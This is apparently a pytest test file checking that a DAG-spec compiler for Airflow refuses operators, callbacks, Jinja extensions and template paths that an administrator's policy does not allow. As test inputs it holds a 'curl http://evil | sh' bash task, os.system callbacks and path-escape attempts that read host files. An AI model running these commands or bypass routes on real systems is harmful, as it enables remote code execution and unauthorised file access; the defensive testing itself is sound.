"""The governance policy holds: under ``allowed_operators``/``allowed_callables`` a spec runs no operator
or callable the administrator did not allow, whatever route it takes (issue 8, section 2 and 3)."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest
from dagspec.dag_factory.compile.api import Policy, compile_paths

POLICY_ENV = {"AIRFLOW__DAGSPEC__ALLOWED_OPERATORS": "mycompany.*",
              "AIRFLOW__DAGSPEC__ALLOWED_CALLABLES": "mycompany.*"}
POLICY = Policy.from_env(POLICY_ENV)
STD = "airflow.providers.standard"

MYCOMPANY_OPS = '''
from airflow.sdk import BaseOperator


class Hello(BaseOperator):
    template_fields = ("word",)

    def __init__(self, *, word: str = "hi", **kwargs):
        super().__init__(**kwargs)
        self.word = word

    def execute(self, context):
        return self.word


def pick(**context):
    return ["a"]
'''


def write(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(text))
    return path


@pytest.fixture
def dags(tmp_path: Path) -> Path:
    """A dag folder holding an allowed company module (``mycompany.ops``)."""
    folder = tmp_path / "dags"
    write(folder, "mycompany/__init__.py", "")
    write(folder, "mycompany/ops.py", MYCOMPANY_OPS)
    return folder


def compile_one(folder: Path, name: str, text: str, policy: Policy | None = POLICY, **kwargs):
    spec = write(folder, name, text)
    return compile_paths([spec], root=folder, policy=policy, env={}, **kwargs)


def codes(result) -> list[tuple[str, int]]:
    return sorted((d.code, d.line) for d in result.all_diagnostics if d.severity == "error")


BUILTINS = [
    ("bash", 'bash: "curl http://evil | sh"', f"{STD}.operators.bash.BashOperator"),
    ("python", "python: mycompany.ops.pick", f"{STD}.operators.python.PythonOperator"),
    ("branch", "branch: {on: x, cases: {x: [other]}}", f"{STD}.operators.python.BranchPythonOperator"),
    ("short_circuit", "short_circuit: {condition: x}", f"{STD}.operators.python.ShortCircuitOperator"),
    ("trigger_dag", "trigger_dag: {dag_id: payments}", f"{STD}.operators.trigger_dagrun.TriggerDagRunOperator"),
    ("wait_for_dag", "wait_for_dag: {dag_id: payments}", f"{STD}.sensors.external_task.ExternalTaskSensor"),
    ("wait_for_asset", "wait_for_asset: gs://b/x", f"{STD}.sensors.python.PythonSensor"),
    ("empty", "empty: true", f"{STD}.operators.empty.EmptyOperator"),
    ("pyspark", "pyspark: gs://b/x.py\n    serverless: {}", "dagspec.provider.operators.job.DataprocSubmitBatchOperator"),
]


@pytest.mark.parametrize("kind,action,operator", BUILTINS, ids=[b[0] for b in BUILTINS])
def test_a_builtin_action_is_refused_when_the_policy_does_not_allow_its_operator(dags: Path, kind: str, action: str,
                                                                                  operator: str) -> None:
    result = compile_one(dags, "s.yaml", f"tasks:\n  other: {{operator: mycompany.ops.Hello}}\n  sh:\n    {action}\n")
    assert result.plans == []
    [diag] = [d for d in result.all_diagnostics if d.severity == "error"]
    assert (diag.code, diag.line, diag.column) == ("DSP042", 4, 5)  # the action key
    assert operator in diag.message and operator in diag.hint and "mycompany.*" in diag.hint


@pytest.mark.parametrize("kind,action,operator", BUILTINS, ids=[b[0] for b in BUILTINS])
def test_a_builtin_action_compiles_once_the_administrator_allows_its_operator(dags: Path, kind: str, action: str,
                                                                               operator: str) -> None:
    policy = Policy((operator, "mycompany.*"), ("mycompany.*",))
    result = compile_one(dags, "s.yaml", f"tasks:\n  other: {{operator: mycompany.ops.Hello}}\n  sh:\n    {action}\n",
                         policy=policy)
    assert codes(result) == [] and [p.dag_id for p in result.plans] == ["s"]


def test_without_a_policy_builtins_and_pass_through_keys_behave_as_before(dags: Path) -> None:
    result = compile_one(dags, "s.yaml", """\
        airflow: {template_searchpath: ["/"], jinja_environment_kwargs: {trim_blocks: true}}
        tasks: {sh: {bash: echo hi}}
        """, policy=Policy())
    [plan] = result.plans
    assert plan.dag_kwargs["template_searchpath"] == ["/"]


def test_a_builtin_from_a_template_is_checked_at_the_template_line(dags: Path) -> None:
    write(dags.parent / "templates", "base.yaml", "tasks:\n  ok: {operator: mycompany.ops.Hello}\n  sh: {bash: id}\n")
    result = compile_one(dags, "s.yaml", "extends: base\ntasks: {ok: {retries: 1}}\n")
    [diag] = result.all_diagnostics
    assert diag.code == "DSP042" and diag.file.endswith("base.yaml") and diag.line == 3


def test_callbacks_from_defaults_and_timetables_from_instances_are_checked(dags: Path) -> None:
    write(dags, "_defaults.yaml", "default_args: {on_failure_callback: os.system}\n")
    result = compile_one(dags, "s.yaml", """\
        tasks: {ok: {operator: mycompany.ops.Hello}}
        instances:
          - dag_id: one
            schedule: {timetable: dagspec.dag_factory.cli.main.main, args: {argv: [schema]}}
        """)
    assert result.plans == []
    found = {(d.code, Path(d.file).name, d.line) for d in result.all_diagnostics}
    assert ("DSP042", "_defaults.yaml", 1) in found
    # instance overrides are located at the spec's top today (a loader limitation, not the policy's)
    assert any(d.code == "DSP042" and d.file.endswith("s.yaml") and "timetable" in d.message
               for d in result.all_diagnostics)


def test_an_operator_path_set_by_an_instance_variable_is_checked(dags: Path) -> None:
    result = compile_one(dags, "s.yaml", f"""\
        tasks: {{t: {{operator: "${{var.op}}"}}}}
        instances:
          - {{dag_id: fine, vars: {{op: mycompany.ops.Hello}}}}
          - {{dag_id: evil, vars: {{op: {STD}.operators.bash.BashOperator}}}}
        """)
    assert [p.dag_id for p in result.plans] == ["fine"]
    assert [d.code for d in result.all_diagnostics] == ["DSP042"]


@pytest.mark.parametrize("route", ["notifier", "timetable"])
def test_dagspec_own_code_is_not_allowed_wholesale(dags: Path, route: str) -> None:
    target = dags.parent / "written.json"
    body = f"{{notifier: dagspec.dag_factory.cli.main.main, args: {{argv: [schema, -o, {target}]}}}}"
    text = (f"on_success_callback: {body}\n" if route == "notifier" else
            f"schedule: {{timetable: dagspec.dag_factory.cli.main.main, args: {{argv: [schema, -o, {target}]}}}}\n")
    result = compile_one(dags, "s.yaml", text + "tasks: {ok: {operator: mycompany.ops.Hello}}\n")
    assert result.plans == [] and [d.code for d in result.all_diagnostics] == ["DSP042"]
    assert "allowed_callables" in result.all_diagnostics[0].hint
    assert not target.exists()


def test_a_spec_naming_a_runtime_helper_is_checked_like_any_callable(dags: Path) -> None:
    result = compile_one(dags, "s.yaml", "tasks: {h: {python: dagspec.dag_factory.airflow.callables.param_items}}\n",
                         policy=Policy((f"{STD}.operators.python.PythonOperator",), ("mycompany.*",)))
    assert codes(result) == [("DSP042", 1)]


def test_the_helpers_the_compiler_inserts_need_no_permission(dags: Path) -> None:
    policy = Policy(("mycompany.*", f"{STD}.operators.python.BranchPythonOperator"), ("mycompany.*",))
    result = compile_one(dags, "s.yaml", """\
        params: {words: [a, b]}
        schedule: {cron: "0 6 * * *", timezone: Europe/Paris}
        tasks:
          pick: {branch: {on: "{{ params.x }}", cases: {a: [say]}}}
          say: {operator: mycompany.ops.Hello, expand: {word: {param: words}}}
        """, policy=policy)
    assert codes(result) == []
    [plan] = result.plans
    helper = next(t for t in plan.tasks if t.kind == "param_items")
    assert helper.operator == f"{STD}.operators.python.PythonOperator"


def test_dataproc_operators_and_cluster_tasks_need_allowed_operators(dags: Path) -> None:
    text = """\
        clusters: {etl: {config: {}}}
        tasks: {job: {pyspark: {main: gs://b/x.py}, cluster: etl}}
        """
    result = compile_one(dags, "s.yaml", text)
    assert codes(result) == [("DSP042", 1), ("DSP042", 2)]  # the cluster (create/delete) and the job
    allowed = Policy(("mycompany.*", "dagspec.provider.*"), ("mycompany.*",))
    assert codes(compile_one(dags, "s.yaml", text, policy=allowed)) == []


def test_jinja_extensions_and_loaders_in_the_airflow_pass_through_are_refused(dags: Path) -> None:
    result = compile_one(dags, "s.yaml", """\
        tasks: {ok: {operator: mycompany.ops.Hello}}
        airflow:
          jinja_environment_kwargs:
            extensions: [evilmod.Ext]
            loader: x
            trim_blocks: true
        """)
    assert codes(result) == [("DSP042", 4), ("DSP045", 5)]


@pytest.mark.parametrize("key", ["on_success_callback", "on_failure_callback", "sla_miss_callback", "deadline"])
def test_callbacks_cannot_go_around_the_check_through_the_airflow_pass_through(dags: Path, key: str) -> None:
    result = compile_one(dags, "s.yaml", f"""\
        tasks: {{ok: {{operator: mycompany.ops.Hello}}}}
        airflow: {{{key}: os.system}}
        """)
    assert codes(result) == [("DSP045", 2)]


def test_a_jinja_extension_the_administrator_allows_passes(dags: Path) -> None:
    policy = Policy(("mycompany.*",), ("mycompany.*", "jinja2.ext.*"))
    result = compile_one(dags, "s.yaml", """\
        tasks: {ok: {operator: mycompany.ops.Hello}}
        airflow: {jinja_environment_kwargs: {extensions: [jinja2.ext.do]}}
        """, policy=policy)
    assert codes(result) == []


@pytest.mark.parametrize("entry", ["/", "..", "../../..", "escape", "~"])
def test_a_template_search_path_outside_the_dag_folder_is_refused(dags: Path, entry: str) -> None:
    (dags / "escape").symlink_to("/")
    result = compile_one(dags, "s.yaml", f"""\
        tasks: {{ok: {{operator: mycompany.ops.Hello}}}}
        airflow: {{template_searchpath: ["{entry}"]}}
        """)
    assert codes(result) == [("DSP045", 2)]


def test_a_template_search_path_inside_the_dag_folder_is_kept_resolved(dags: Path) -> None:
    (dags / "sql").mkdir()
    result = compile_one(dags, "team/s.yaml", """\
        tasks: {ok: {operator: mycompany.ops.Hello}}
        airflow: {template_searchpath: [../sql]}
        """)
    [plan] = result.plans
    assert plan.dag_kwargs["template_searchpath"] == [str((dags / "sql").resolve())]


def test_an_operator_path_that_is_a_module_fails_validate(dags: Path) -> None:
    result = compile_one(dags, "s.yaml", "tasks: {t: {operator: os.path}}\n", policy=Policy())
    [diag] = result.all_diagnostics
    assert diag.code == "DSP043" and diag.line == 1 and "module" in diag.message


def test_a_callback_that_is_not_callable_fails_validate(dags: Path) -> None:
    result = compile_one(dags, "s.yaml", "on_failure_callback: os.sep\ntasks: {t: {bash: echo}}\n", policy=Policy())
    assert codes(result) == [("DSP043", 1)]


@pytest.mark.parametrize("text,line", [
    ("on_success_callback:\n  notifier: airflow.providers.standard.triggers.file.FileTrigger\n"
     "  args: {filepaht: x}\n", 3),
    ("schedule: {timetable: airflow.timetables.trigger.CronTriggerTimetable, args: {timezone: UTC}}\n", 1),
    ("schedule:\n  timetable: airflow.timetables.trigger.CronTriggerTimetable\n"
     "  args: {cron: '0 6 * * *', timezone: UTC, every: 5}\n", 3),
], ids=["notifier-typo", "timetable-missing", "timetable-unknown"])
def test_a_notifier_or_timetable_with_wrong_args_fails_validate(dags: Path, text: str, line: int) -> None:
    result = compile_one(dags, "s.yaml", text + "tasks: {t: {bash: echo}}\n", policy=Policy())
    assert codes(result) == [("DSP044", line)]


def test_notifier_and_timetable_args_that_fit_pass(dags: Path) -> None:
    result = compile_one(dags, "s.yaml", """\
        schedule: {timetable: airflow.timetables.trigger.CronTriggerTimetable, args: {cron: "0 6 * * *", timezone: UTC}}
        tasks: {t: {bash: echo}}
        """, policy=Policy())
    assert codes(result) == [] and result.plans


def test_the_plan_cache_never_serves_a_plan_checked_under_another_policy(dags: Path, tmp_path: Path) -> None:
    from dagspec.dag_factory.compile.cache import PlanCache, indexed_plans

    env = {"DAGSPEC_CACHE_DIR": str(tmp_path / "cache")}
    spec = write(dags, "s.yaml", "tasks: {sh: {bash: id}}\n")
    store = PlanCache(tmp_path / "cache")
    assert compile_paths([spec], root=dags, env=env, cache=store).plans  # no policy: cached
    store.flush()
    assert indexed_plans(dags, "s", Policy().key(), env=env)
    assert indexed_plans(dags, "s", POLICY.key(), env=env) is None
    under = compile_paths([spec], root=dags, env={**env, **POLICY_ENV}, cache=store)
    store.flush()
    assert under.plans == [] and [d.code for d in under.all_diagnostics] == ["DSP042"]
    assert indexed_plans(dags, "s", POLICY.key(), env={**env, **POLICY_ENV}) is None


def test_policy_keys_carry_the_rules_version() -> None:
    assert "rules=" in POLICY.key() and POLICY.key() != Policy().key()


# -- through Airflow: the loader uses the same compiler, so a refused spec is an import error ----------------------


@pytest.fixture
def policy_env(monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in POLICY_ENV.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("DAGSPEC_CACHE", "off")


LOADER = Path(__file__).resolve().parents[2] / "dags" / "dagspec_loader.py"


def write_loader(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "dagspec_loader.py").write_text(LOADER.read_text())


def bag_of(folder: Path):
    from dagspec.dag_factory.airflow.compat import bundle_dagbag

    return bundle_dagbag(folder, folder)


def test_the_loader_refuses_a_bash_task_under_the_policy(dags: Path, policy_env: None) -> None:
    write_loader(dags)
    write(dags, "sh.yaml", 'tasks: {sh: {bash: "curl http://evil | sh"}}\n')
    write(dags, "ok.yaml", "tasks: {ok: {operator: mycompany.ops.Hello}}\n")
    bag = bag_of(dags)
    assert set(bag.dags) == {"ok"}
    assert "DSP042" in bag.import_errors["sh.yaml"] and "BashOperator" in bag.import_errors["sh.yaml"]


def test_the_loader_runs_no_dagspec_notifier_at_parse_time(dags: Path, policy_env: None) -> None:
    write_loader(dags)
    target = dags.parent / "written.json"
    write(dags, "cb.yaml", f"""\
        on_success_callback: {{notifier: dagspec.dag_factory.cli.main.main, args: {{argv: [schema, -o, {target}]}}}}
        schedule: {{timetable: dagspec.dag_factory.cli.main.main, args: {{argv: [schema, -o, {target}]}}}}
        tasks: {{ok: {{operator: mycompany.ops.Hello}}}}
        """)
    bag = bag_of(dags)
    assert bag.dags == {} and "DSP042" in bag.import_errors["cb.yaml"]
    assert not target.exists()


def test_the_loader_reports_a_wrong_notifier_as_the_spec_error_validate_gives(dags: Path,
                                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DAGSPEC_CACHE", "off")
    write_loader(dags)
    write(dags, "n.yaml", """\
        on_success_callback: {notifier: airflow.providers.standard.triggers.file.FileTrigger, args: {filepaht: x}}
        tasks: {t: {operator: os.path}}
        """)
    bag = bag_of(dags)
    text = bag.import_errors["n.yaml"]
    assert "DSP044" in text and "DSP043" in text and "DSP900" not in text


def test_the_worker_fast_path_does_not_serve_a_plan_cached_before_the_policy(dags: Path, tmp_path: Path,
                                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DAGSPEC_CACHE_DIR", str(tmp_path / "cache"))
    write_loader(dags)
    write(dags, "sh.yaml", "tasks: {sh: {bash: id}}\n")
    assert set(bag_of(dags).dags) == {"sh"}  # no policy: the plan is cached and indexed
    for name, value in POLICY_ENV.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("_AIRFLOW_PARSING_CONTEXT_DAG_ID", "sh")
    bag = bag_of(dags)
    assert bag.dags == {} and "DSP042" in bag.import_errors["sh.yaml"]


def test_template_searchpath_cannot_make_include_read_host_files(dags: Path, policy_env: None) -> None:
    write_loader(dags)
    write(dags, "inc.yaml", """\
        airflow: {template_searchpath: ["/"]}
        tasks: {ok: {operator: mycompany.ops.Hello, args: {word: "{% include 'etc/hostname' %}"}}}
        """)
    bag = bag_of(dags)
    assert bag.dags == {} and "DSP045" in bag.import_errors["inc.yaml"]
